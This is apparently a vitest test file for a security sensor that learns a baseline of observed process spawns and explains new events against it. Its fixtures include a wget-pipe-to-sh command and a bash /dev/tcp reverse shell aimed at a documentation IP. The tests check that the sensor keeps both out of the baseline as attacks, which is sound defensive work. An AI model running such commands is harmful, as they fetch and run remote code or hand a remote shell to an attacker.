import { describe, expect, it } from 'vitest';
import { readSensorEvents } from '../formats/sensor-events/read-sensor-events.js';
import type { SensorEvent } from '../formats/sensor-events/sensor-record.js';
import { explainEvent } from './explain-event.js';
import { learnBaseline } from './learn-baseline.js';

const base = { v: 1, ts: '2026-01-05T00:00:00.000Z', pid: 10, tid: 0 };
const spawn = (seq: number, change: Record<string, unknown>) => ({
  ...base,
  kind: 'spawn',
  seq,
  api: 'spawn',
  provenance: 'app',
  severity: 'informational',
  reason: 'outside of a request',
  key: 'app src/a.ts:1:2 spawn ffprobe',
  argv: ['ffprobe', 'x.mp4'],
  ...change,
});

function records(...lines: object[]) {
  const reading = readSensorEvents(lines.map((line) => JSON.stringify(line)).join('\n'));
  return reading.ok ? reading.value.records : [];
}
const event = (change: Record<string, unknown> = {}) => records(spawn(1, change))[0] as SensorEvent; // a spawn line is an event
const entry = (key: string) => ({ key, seen: 1, example: null, note: null });
const known = (...keys: string[]) => ({ entries: keys.map(entry), migrations: ['m'] });

describe('learning', () => {
  it('takes keys once, counts repeats, and keeps what stood there', () => {
    const old = { entries: [{ ...entry('app old'), note: 'mine' }], migrations: ['src/migrations'] };
    const { baseline, added, leftOut } = learnBaseline(
      records(spawn(1, {}), spawn(2, {}), { ...base, kind: 'aggregate', seq: 3, of: 1, ofKind: 'spawn', count: 7 }),
      old,
    );
    expect(added).toEqual([{ key: 'app src/a.ts:1:2 spawn ffprobe', seen: 9, example: 'ffprobe x.mp4', note: null }]);
    expect(baseline.entries[0]).toBe(old.entries[0]);
    expect([baseline.migrations, leftOut]).toEqual([['src/migrations'], []]);
  });

  it('takes nothing twice: a second run adds nothing', () => {
    const first = learnBaseline(records(spawn(1, {})), null);
    expect(learnBaseline(records(spawn(1, {})), first.baseline).added).toEqual([]);
  });

  it.each<[string, Record<string, unknown>, RegExp]>([
    ['evaluated code', { provenance: 'eval', key: 'eval x spawn sh' }, /no shipped file asks for it \(eval\)/],
    ['no frame', { provenance: 'orphan', key: 'orphan  spawn sh' }, /can never be known/],
    ['a finding', { severity: 'high', reason: 'writes to /dev' }, /^high: writes to \/dev$/],
    ['fetch and run', { argv: ['sh', '-c', 'wget -qO- http://198.51.100.7/a | sh'] }, /one of an attack/],
    ['a reverse shell', { argv: ['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'] }, /one of an attack/],
  ])('leaves out %s', (_, change, why) => {
    const { added, leftOut } = learnBaseline(records(spawn(1, change)), null);
    expect(added).toEqual([]);
    expect(leftOut[0]?.why).toMatch(why);
  });

  it('one bad call of a key keeps the key out, also after good ones', () => {
    expect(learnBaseline(records(spawn(1, {}), spawn(2, { severity: 'critical' })), null).added).toEqual([]);
  });

  it.each([
    ['connections', { kind: 'connect', api: 'tcp.connect', peer: '10.0.0.1:1' }],
    ['names', { kind: 'dns', api: 'getaddrinfo', peer: 'a.example' }],
    ['migrations', { kind: 'codegen', api: 'eval-import' }],
  ])('does not speak of %s', (_, change) => {
    const { added, leftOut } = learnBaseline(records(spawn(1, change)), null);
    expect([added, leftOut]).toEqual([[], []]);
  });

  it('notes that the text of a direct eval is not seen', () => {
    const { added } = learnBaseline(records(spawn(1, { kind: 'codegen', api: 'eval', code: null, argv: [] })), null);
    expect(added[0]?.note).toMatch(/text cannot be seen/);
  });
});

describe('explaining', () => {
  it.each<[string, Record<string, unknown>, string[] | null, string, string | null]>([
    ['a known key', {}, ['app src/a.ts:1:2 spawn ffprobe'], 'known', 'informational'],
    [
      'a known key that was critical',
      { severity: 'critical' },
      ['app src/a.ts:1:2 spawn ffprobe'],
      'known',
      'informational',
    ],
    ['an unknown key', { severity: 'high' }, ['app b'], 'unknown', 'high'],
    ['no baseline', {}, null, 'no-baseline', 'informational'],
    ['evaluated code', { provenance: 'eval', key: 'eval x', severity: 'critical' }, ['eval x'], 'never', 'critical'],
    ['one that another baseline knew', { known: true, reason: 'known' }, [], 'unknown', null],
  ])('%s', (_, change, keys, state, severity) => {
    expect(explainEvent(event(change), keys === null ? null : known(...keys))).toMatchObject({ state, severity });
  });

  it('says who asked, where, and in which request', () => {
    const request = { method: 'POST', path: '/media', client: '203.0.113.9', nextAction: true };
    const { why, refused } = explainEvent(
      event({ request, severity: 'critical', provenance: 'dep:sharp', key: 'dep:sharp x' }),
      null,
    );
    expect(why.slice(0, 2)).toEqual([
      'the package sharp asked for it',
      'inside the request POST /media of 203.0.113.9',
    ]);
    expect(refused).toBe(true);
  });

  it('names keys that are near', () => {
    const near = explainEvent(
      event(),
      known('app src/a.ts:9:9 spawn ffprobe', 'app src/a.ts:1:2 spawn sh:curl', 'app src/b.ts:1:2 spawn x'),
    ).near;
    expect(near.map(({ key }) => key)).toEqual(['app src/a.ts:9:9 spawn ffprobe', 'app src/a.ts:1:2 spawn sh:curl']);
    expect(near[0]?.differs).toMatch(/^the line/);
  });
});
